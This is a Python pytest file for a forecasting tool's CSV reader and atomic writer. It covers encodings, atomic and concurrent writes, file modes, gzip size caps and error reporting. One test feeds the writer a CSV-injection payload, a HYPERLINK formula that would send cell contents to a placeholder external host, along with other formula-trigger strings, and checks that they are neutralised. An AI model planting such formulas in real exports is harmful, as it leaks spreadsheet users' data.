"""The safe CSV reader and the atomic writer every stage uses (read here through load_history)."""

from __future__ import annotations

import gzip
import os
import threading

import pandas as pd
import pytest

from forecast.errors import InputError
from forecast.io.files import read_table, write_csv_atomic
from forecast.io.history import load_history

GOOD = """ds,channel,tz,volume,aht_s
2025-06-02T12:00:00Z,voice,America/New_York,10,300
2025-06-02T12:15:00Z,voice,America/New_York,12,310
2025-06-02T12:30:00Z,voice,America/New_York,0,
2025-06-02T12:45:00Z,voice,America/New_York,8,290
"""


def test_gzip_and_bom_are_read(tmp_path):
    path = tmp_path / "h.csv.gz"
    path.write_bytes(gzip.compress(("\ufeff" + GOOD).encode()))
    assert len(load_history(path)) == 4


def test_not_utf8_is_reported_with_its_line(write):
    path = write("latin1.csv", "ds,channel,tz,volume\n2025-06-02T12:00:00Z,voice,UTC,3\n".encode() + "caf\xe9\n".encode("latin-1"))
    with pytest.raises(InputError, match="not UTF-8") as info:
        load_history(path)
    assert info.value.problems[0].line == 3


def test_missing_file_is_reported(tmp_path):
    with pytest.raises(InputError, match="file not found"):
        load_history(tmp_path / "nope.csv")


def test_write_csv_atomic_leaves_no_partial_file(tmp_path, monkeypatch):
    def boom(self, path, **kwargs):
        with open(path, "w") as fh:
            fh.write("partial")
        raise RuntimeError("disk full")

    target = tmp_path / "out.csv"
    with monkeypatch.context() as m:
        m.setattr(pd.DataFrame, "to_csv", boom)
        with pytest.raises(RuntimeError):
            write_csv_atomic(pd.DataFrame({"a": ["x"]}), target)
    assert not target.exists()
    assert list(tmp_path.iterdir()) == []
    write_csv_atomic(pd.DataFrame({"a": [1]}), target)
    assert target.read_text() == "a\n1\n"


def test_two_writers_of_one_file_never_share_a_temporary_file(tmp_path):
    target = tmp_path / "out.csv"
    frames = [pd.DataFrame({"writer": [i] * 20000, "x": range(20000)}) for i in range(2)]
    errors: list[BaseException] = []

    def run(df):
        try:
            for _ in range(15):
                write_csv_atomic(df, target)
        except BaseException as exc:  # noqa: BLE001 - reported below
            errors.append(exc)

    threads = [threading.Thread(target=run, args=(df,)) for df in frames]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert errors == []
    assert pd.read_csv(target).equals(frames[int(pd.read_csv(target)["writer"].iloc[0])])
    assert [p.name for p in tmp_path.iterdir()] == ["out.csv"]


def test_a_written_file_has_the_mode_of_an_ordinary_new_file(tmp_path):
    mask = os.umask(0o027)
    try:
        write_csv_atomic(pd.DataFrame({"a": [1]}), tmp_path / "out.csv")
    finally:
        os.umask(mask)
    assert (tmp_path / "out.csv").stat().st_mode & 0o777 == 0o640


def test_every_text_cell_is_made_formula_safe_and_numbers_stay_numbers(tmp_path):
    df = pd.DataFrame(
        {
            "events": ['=HYPERLINK("http://x.example/?"&A1;"click")', "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx", "Black Friday", ""],
            "text_number": ["-3", "+1.5e3", "-0.25", "1", "-", "2", "3", "4"],
            "volume": [-3.5, 1.0, -2.0, 0.0, 4.0, 5.0, 6.0, 7.0],
        }
    )
    path = write_csv_atomic(df, tmp_path / "t.csv")
    back = pd.read_csv(path, keep_default_na=False, dtype={"events": str, "text_number": str})
    assert back["events"].tolist() == [
        '\'=HYPERLINK("http://x.example/?"&A1;"click")', "'+1+2", "'-2+3", "'@SUM(A1)", "'\tx", "'\nx", "Black Friday", "",
    ]
    assert back["text_number"].tolist() == ["-3", "+1.5e3", "-0.25", "1", "'-", "2", "3", "4"]
    assert back["volume"].tolist() == [-3.5, 1.0, -2.0, 0.0, 4.0, 5.0, 6.0, 7.0]


def test_a_gzip_file_is_capped_on_its_uncompressed_size(tmp_path, monkeypatch):
    from forecast.io import files

    monkeypatch.setattr(files, "MAX_FILE_BYTES", 1_000_000)
    row = "2025-06-02T12:00:00Z,voice,America/New_York,10,300\n"
    path = tmp_path / "h.csv.gz"
    path.write_bytes(gzip.compress((GOOD + row * 40_000).encode()))  # about 2 MB unpacked, a few kB packed
    assert path.stat().st_size < 100_000
    with pytest.raises(InputError, match="h.csv.gz: unpacks to more than 1 MB; the limit is 1 MB of uncompressed data"):
        load_history(path)


def test_problem_collection_stops_after_what_is_shown_and_counts_the_rest(write):
    from forecast.errors import MAX_PROBLEMS_SHOWN

    bad = "2025-06-02T12:00:00Z,voice,America/New_York,many,300\n" * 5000
    with pytest.raises(InputError) as info:
        load_history(write("h.csv", GOOD + bad))
    err = info.value
    assert err.total == 5000 and len(err.problems) == MAX_PROBLEMS_SHOWN
    assert [p.line for p in err.problems] == list(range(6, 6 + MAX_PROBLEMS_SHOWN))
    assert str(err).endswith("... and 4,980 more problem(s)")


def test_a_row_with_too_many_fields_in_a_file_with_carriage_return_line_ends_is_reported(write):
    path = write("time_off.csv", b"agent_id,start,end\rA001,2026-11-24,2026-11-25,x\rA002,2026-11-26,2026-11-27\r")
    with pytest.raises(InputError) as exc:
        read_table(path)
    assert "time_off.csv, line 2: is not a well-formed CSV: expected 3 fields as in the header, saw 4" in str(exc.value)
